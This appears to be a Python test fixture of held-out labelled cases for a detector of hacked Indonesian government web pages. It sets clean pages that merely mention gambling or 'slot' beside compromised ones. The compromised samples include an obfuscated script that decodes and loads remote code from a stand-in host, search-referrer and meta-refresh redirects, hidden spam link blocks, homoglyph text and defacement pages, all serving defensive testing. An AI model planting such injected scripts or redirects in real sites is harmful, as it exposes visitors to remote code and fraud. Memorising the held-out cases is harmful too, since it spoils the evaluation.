"""A third set held out: written after the second had been looked at, judged once, nothing was changed for it."""

from collections.abc import Sequence
from dataclasses import replace

from tests.support.labelled.case import Case
from tests.support.labelled.frames import bare, codeigniter, joomla, news_list, paragraphs, wordpress

_HOME = wordpress("Beranda", news_list(4, 6), office="Badan Pendapatan Daerah")

_CLEAN = [
    Case(
        "third-judol-1",
        "news on gambling",
        False,
        wordpress(
            "Sekda: Pegawai Ketahuan Main Judi Online Akan Dipotong TPP",
            paragraphs(
                "Pemotongan tunjangan berlaku tiga bulan. Inspektorat memeriksa riwayat transaksi pegawai.",
                "Ada yang mengaku deposit lewat pulsa setiap hari.",
            ),
        ),
    ),
    Case(
        "third-judol-2",
        "news on gambling",
        False,
        codeigniter(
            "Kabar Kecamatan",
            paragraphs(
                "Karang taruna menggelar nonton bareng film tentang pemuda yang hancur karena slot.",
                "Pesan film itu: tidak ada yang menang dari judi.",
            ),
        ),
    ),
    Case(
        "third-polisi",
        "police release",
        False,
        joomla(
            "Konferensi Pers Pengungkapan Perkara",
            paragraphs(
                "Tim Siber membongkar praktik endorse situs bernama HOKI777 dan RAJA138 oleh tiga kreator konten.",
                'Mereka dibayar Rp 5 juta per unggahan dengan takarir "gacor parah, auto maxwin, link di bio". Ketiganya kini berstatus tersangka.',
            ),
        ),
    ),
    Case(
        "third-desa",
        "plain",
        False,
        bare(
            "Profil Desa Slotomulyo",
            paragraphs(
                "Desa Slotomulyo dipimpin Kepala Desa Bapak Totok Judianto.",
                "Penduduk 2.310 jiwa, mata pencaharian utama karet dan sawit.",
            ),
        ),
    ),
    Case(
        "third-jobfair",
        "slot",
        False,
        wordpress(
            "Job Fair: 40 Perusahaan, 1.500 Slot Pekerjaan",
            paragraphs("Slot pekerjaan terbanyak di bidang ritel. Daftar akun dan login di laman resmi, gratis."),
        ),
    ),
    Case(
        "third-tiket",
        "slot",
        False,
        codeigniter(
            "Tiket Masuk Jakabaring Aquatic",
            paragraphs("Slot sore hari ini habis. Slot malam masih 12. Pembayaran QRIS, GoPay."),
        ),
    ),
    Case(
        "third-wifi",
        "tech",
        False,
        joomla(
            "Spesifikasi CCTV dan NVR",
            paragraphs("Slot MicroSD hingga 256 GB, slot SFP, server rekaman 16 kanal, live view RTSP."),
        ),
    ),
    Case(
        "third-buku",
        "culture",
        False,
        wordpress(
            "Resensi Buku: Sang Bandar",
            paragraphs("Novel ini berkisah tentang bandar judi di zaman kolonial, meja rolet, dan taruhan nyawa."),
        ),
    ),
    Case(
        "third-en",
        "english",
        False,
        wordpress(
            "Investment Opportunities",
            paragraphs(
                "Jackpot of natural resources: coal, rubber, palm oil. Bet on South Sumatra. State-owned companies owned by the province."
            ),
        ),
    ),
    Case(
        "third-foreign",
        "many foreign links",
        False,
        wordpress(
            "Mitra",
            "<p>"
            + " ".join(
                f"<a href='https://{n}.com'>{n}</a>"
                for n in ("medcofoundation", "pusri", "semenbaturaja", "bukitasam", "tanjungenim99", "palembangicon")
            )
            + "</p>",
        ),
    ),
    Case(
        "third-diretas",
        "news on defacement",
        False,
        wordpress(
            "Akun WhatsApp Kadis Diretas, Warga Diminta Waspada",
            paragraphs(
                "Pelaku meminta transfer uang. Nomor telah diretas sejak Senin pagi dan sudah dilaporkan ke Polda."
            ),
        ),
    ),
    Case("third-csr", "crawler", False, _HOME, crawled=_HOME.replace("Selengkapnya", "Baca")),
]

_HACKED = [
    Case(
        "third-div",
        "hidden div",
        True,
        joomla(
            "Beranda",
            news_list(),
            foot="<div style='font-size:0'><a href='https://z.example/'>Situs Slot Dana</a><a href='https://y.example/'>Toto Togel Terpercaya</a></div>",
        ),
    ),
    Case(
        "third-div-2",
        "hidden div",
        True,
        codeigniter(
            "Beranda",
            news_list(1),
            foot="<div style='left:-5000px;position:absolute'>Judi bola online24jam, taruhan bola resmi, agen sbobet</div>",
        ),
    ),
    Case("third-title", "title swap", True, codeigniter("PANEN777 # Situs Gacor Pasti Bayar", news_list(2))),
    Case("third-title-2", "title swap", True, wordpress("Nonton Live Draw Toto Macau Tercepat", news_list(2))),
    Case("third-title-3", "title swap", True, joomla("Permainan Slot Online Uang Asli Terbaik", news_list(2))),
    Case("third-glyph", "homoglyphs", True, wordpress("ᔕᒪOT GᗩᑕOᖇ ᗰᗩ᙭ᗯIᑎ", news_list())),
    Case(
        "third-glyph-2",
        "homoglyphs",
        True,
        wordpress("Beranda", news_list(), foot="<div hidden>ѕӏоt&nbsp;gа&#8203;соr mахw&zwnj;in</div>"),
    ),
    Case(
        "third-cloak",
        "cloaking",
        True,
        _HOME,
        crawled=_HOME.replace("<h1>Beranda</h1>", "<h1>Slot Thailand Anti Rungkad</h1>"),
    ),
    Case(
        "third-cloak-2",
        "cloaking",
        True,
        _HOME,
        crawled="<html><title>Rolex Replica Outlet</title><body>"
        + "".join(
            f"<p>cheap replica watches model {n} free shipping worldwide discount number {n * 7}</p>" for n in range(30)
        )
        + "</body></html>",
    ),
    Case(
        "third-js",
        "injected JS",
        True,
        wordpress(
            "Beranda",
            news_list(),
            foot="<script>var _=['aHR0cHM6Ly9zdWhlbmcuZXhhbXBsZS9nby5qcw=='];var d=document,s=d.createElement('script');s.src=atob(_[0]);d.body.appendChild(s)</script>",
        ),
    ),
    Case(
        "third-js-2",
        "injected JS",
        True,
        joomla(
            "Beranda",
            news_list(),
            foot="<script>if(document.referrer.match(/google|bing/)){location.href='https://sumbercuan.example/?s=1'}</script>",
        ),
    ),
    Case(
        "third-redirect",
        "redirect",
        True,
        bare("Memuat", "", head="<script>window.location.replace('https://masuk-vip.example')</script>"),
    ),
    Case(
        "third-meta",
        "meta refresh",
        True,
        wordpress(
            "Beranda", news_list(), head="<meta http-equiv='refresh' content='3; url=https://jackpot-asia.example'>"
        ),
    ),
    Case(
        "third-farm",
        "link farm",
        True,
        codeigniter(
            "Beranda",
            news_list(),
            foot="<div>"
            + "".join(f"<a href='https://{n}.example'>{n}</a>" for n in ("surgaslot777", "koinbet", "nagapoker88"))
            + "</div>",
        ),
    ),
    Case(
        "third-deface",
        "full deface",
        True,
        "<html><head><title>hacked</title></head><body><h1>Hacked by 0xDay ~ Sumatra Black Hat</h1></body></html>",
    ),
    Case(
        "third-deface-2",
        "full deface",
        True,
        codeigniter("Beranda", "<h1>Defaced by Kucing Garong</h1><p>Salam admin, patch celah anda.</p>" + news_list()),
    ),
    Case(
        "third-image",
        "image only",
        True,
        "<html><head><title>Owned</title></head><body bgcolor=black><img src='owned.gif'></body></html>",
    ),
    Case(
        "third-doorway",
        "SEO doorway",
        True,
        codeigniter(
            "Artikel Populer",
            paragraphs(
                "Mahjong Ways 2 dari PG Soft sedang viral. Bocoran RTP live menunjukkan peluang scatter hitam tinggi. Klik daftar untuk bonus new member dan rasakan maxwin."
            ),
        ),
    ),
    Case(
        "third-comment",
        "comment injection",
        True,
        wordpress(
            "Agenda",
            paragraphs("Apel pagi.")
            + "<ul class=comments><li>Saya menang besar di <a href='https://kakekzeus.example'>kakek zeus slot</a>, deposit pulsa tanpa ribet</li></ul>",
        ),
    ),
    Case(
        "third-path",
        "deep path",
        True,
        _HOME,
        paths={"/storage/": "<title>Bandar Judi Bola Resmi</title><p>Daftar sbobet, parlay</p>"},
    ),
    Case(
        "third-sitemap",
        "sitemap spam",
        True,
        _HOME,
        paths={
            "/sitemap.xml": "<urlset><url><loc>https://dinkes.sumselprov.go.id/rtp-gacor-pg-soft</loc></url></urlset>"
        },
    ),
]

CASES: Sequence[Case] = [replace(case, held_out=True) for case in (*_CLEAN, *_HACKED)]
